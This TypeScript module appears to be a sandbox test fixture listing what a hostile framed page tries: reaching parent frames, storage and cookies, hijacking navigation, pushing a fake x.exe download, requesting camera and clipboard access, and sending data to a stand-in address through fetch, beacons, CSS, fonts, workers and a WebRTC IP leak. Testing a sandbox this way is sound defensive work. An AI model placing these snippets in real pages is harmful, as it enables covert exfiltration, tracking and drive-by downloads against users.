/**
 * What a hostile page tries, as bodies of async functions in its own frame. `post` is a stranger's address. Each pushes into `got`
 * whatever it got hold of; what leaves the page unseen by it, the stranger's machine hears.
 */
export const pageAttacks: Record<string, string> = {
  'the portal around it': `
    for (const far of [parent, top]) for (const name of ['document', 'localStorage', 'sessionStorage', 'indexedDB', 'name', 'history', 'navigator', 'fetch', 'digione'])
      try { got.push(name + typeof far[name]); } catch {}
    try { got.push(String(parent.location.href)); } catch {} try { got.push(frameElement.id); } catch {}`,
  'its siblings': `
    for (let at = 0; at < parent.length; at++) { if (parent[at] === window) continue; try { got.push(parent[at].document.title); } catch {} }
    try { const channel = new BroadcastChannel('portal'); channel.onmessage = (e) => got.push(e.data); channel.postMessage('hello'); } catch {}
    await wait(100);`,
  'storage of any kind': `
    for (const name of ['localStorage', 'sessionStorage']) try { window[name].setItem('a', 'b'); got.push(name); } catch {}
    try { await new Promise((yes, no) => { const r = indexedDB.open('a'); r.onsuccess = yes; r.onerror = no; }); got.push('indexedDB'); } catch {}
    try { await caches.open('a'); got.push('caches'); } catch {} try { await navigator.storage.getDirectory(); got.push('files'); } catch {}`,
  cookies: `
    try { document.cookie = 'a=b'; if (document.cookie) got.push(document.cookie); } catch {}
    try { await cookieStore.set('a', 'b'); got.push('cookieStore'); } catch {}`,
  'the portal by navigating it': `
    try { top.location = 'http://' + post; } catch {} try { parent.location.replace('http://' + post); } catch {} try { top.history.back(); } catch {}
    try { const a = document.createElement('a'); a.href = 'http://' + post; a.target = '_top'; document.body.append(a); a.click(); } catch {} await wait(200);`,
  'the net by forms': `
    for (const target of ['_self', '_top', '_blank']) { const f = document.createElement('form'); f.action = 'http://' + post; f.method = 'post'; f.target = target; document.body.append(f); try { f.submit(); } catch {} try { f.requestSubmit(); } catch {} } await wait(200);`,
  'the net by windows': `
    try { if (open('http://' + post)) got.push('a window'); } catch {} try { if (open('about:blank')) got.push('an empty window'); } catch {} await wait(200);`,
  'the disk by downloads': `
    for (const href of ['http://' + post + '/x.exe', URL.createObjectURL(new Blob(['x']))]) { const a = document.createElement('a'); a.href = href; a.download = 'x.exe'; document.body.append(a); a.click(); } await wait(200);`,
  'the net by requests': `
    const tries = [() => fetch('http://' + post), () => fetch('http://' + post, { mode: 'no-cors', keepalive: true }), () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open('GET', 'http://' + post); x.send(); }),
      () => new Promise((yes, no) => { const s = new WebSocket('ws://' + post); s.onopen = yes; s.onerror = no; }), () => new Promise((yes, no) => { const s = new EventSource('http://' + post); s.onopen = yes; s.onerror = no; }),
      () => new WebTransport('https://' + post).ready, () => fetch(location.href), () => fetch('/api/session')];
    for (const one of tries) try { await one(); got.push(String(one)); } catch {}`,
  'the net by beacons': `
    navigator.sendBeacon('http://' + post, 'x'); const a = document.createElement('a'); a.href = '#'; a.ping = 'http://' + post; document.body.append(a); a.click();
    try { fetchLater('http://' + post); } catch {} new ReportingObserver(() => 0).observe(); await wait(200);`,
  'the net by names': `
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender', 'stylesheet', 'icon', 'manifest']) { const l = document.createElement('link'); l.rel = rel; l.href = 'http://' + post + '/' + rel; l.as = 'script'; document.head.append(l); }
    const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://' + post] }] }); document.head.append(s); await wait(300);`,
  'the net by workers': `
    const code = URL.createObjectURL(new Blob(['postMessage(1)'])); for (const url of [code, 'data:text/javascript,postMessage(1)', 'page.js'])
      for (const Kind of [Worker, window.SharedWorker]) try { const w = new Kind(url); await new Promise((yes, no) => { w.onmessage = yes; w.onerror = no; setTimeout(no, 300); }); got.push('a worker'); } catch {}
    try { await navigator.serviceWorker.register('page.js'); got.push('a service worker'); } catch {}
    try { await CSS.paintWorklet?.addModule(code); await audioWorklet.addModule(code); got.push('a worklet'); } catch {}`,
  'the net by pictures, media and frames': `
    for (const [name, field] of [['img', 'src'], ['video', 'src'], ['audio', 'src'], ['iframe', 'src'], ['frame', 'src'], ['embed', 'src'], ['object', 'data'], ['script', 'src'], ['source', 'src'], ['track', 'src'], ['input', 'src']])
      { const e = document.createElement(name); if (name === 'input') e.type = 'image'; e[field] = 'http://' + post + '/' + name; document.body.append(e); } await wait(300);`,
  'the net by styles and fonts': `
    const leak = "@import url(http://" + post + "/i); @font-face { font-family: x; src: url(http://" + post + "/f) } body { background: url(http://" + post + "/b); font-family: x } body::before { content: url(http://" + post + "/c) }";
    const s = document.createElement('style'); s.textContent = leak; document.head.append(s);
    try { const sheet = new CSSStyleSheet(); sheet.replaceSync(leak); document.adoptedStyleSheets = [sheet]; } catch {}
    document.body.style.backgroundImage = 'url(http://' + post + '/s)'; try { await new FontFace('y', 'url(http://' + post + '/y)').load(); got.push('a font'); } catch {} await wait(300);`,
  'a frame of its own without the cage': `
    const f = document.createElement('iframe'); f.srcdoc = '<script>parent.postMessage("out", "*")</' + 'script>'; addEventListener('message', (e) => e.data === 'out' && got.push('ran')); document.body.append(f); await wait(200);
    try { await f.contentWindow.fetch('http://' + post); got.push('fetched'); } catch {} try { f.contentWindow.localStorage.setItem('a', 'b'); got.push('stored'); } catch {}`,
  'camera, place and the rest of the machine': `
    const tries = [() => navigator.mediaDevices.getUserMedia({ audio: true }), () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)), () => navigator.clipboard.readText(), () => navigator.clipboard.writeText('x'),
      () => navigator.usb.requestDevice({ filters: [] }), () => document.documentElement.requestFullscreen(), () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } }), () => document.requestStorageAccess(), () => Notification.requestPermission().then((p) => p === 'granted' || Promise.reject()), () => navigator.wakeLock.request()];
    for (const one of tries) try { await Promise.race([one(), wait(300).then(() => Promise.reject())]); got.push(String(one)); } catch {}`,
  'a dialogue in the portal’s name': `
    try { if (confirm('x')) got.push('confirm'); } catch {} try { if (prompt('x') !== null) got.push('prompt'); } catch {} try { alert('x'); } catch {}`,
};

/** Asks a stranger's STUN and TURN servers; what it gets is each address that is not hidden behind a made-up name. */
export const callsBetweenBrowsers = `
    const ask = (urls) => ({ urls: urls + post + (urls.startsWith('turn') ? '?transport=tcp' : ''), username: 'u', credential: 'c' });
    try {
      const pc = new RTCPeerConnection({ iceServers: [ask('stun:'), ask('turn:')] });
      pc.onicecandidate = ({ candidate }) => candidate?.candidate && !candidate.candidate.includes('.local ') && got.push(candidate.candidate);
      pc.createDataChannel('x'); await pc.setLocalDescription(await pc.createOffer()); await wait(500);
      await pc.setRemoteDescription({ type: 'answer', sdp: pc.localDescription.sdp.replace('actpass', 'active') });
      await pc.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 ' + post.replace(':', ' ') + ' typ host', sdpMid: '0' }); await wait(800);
    } catch {}`;
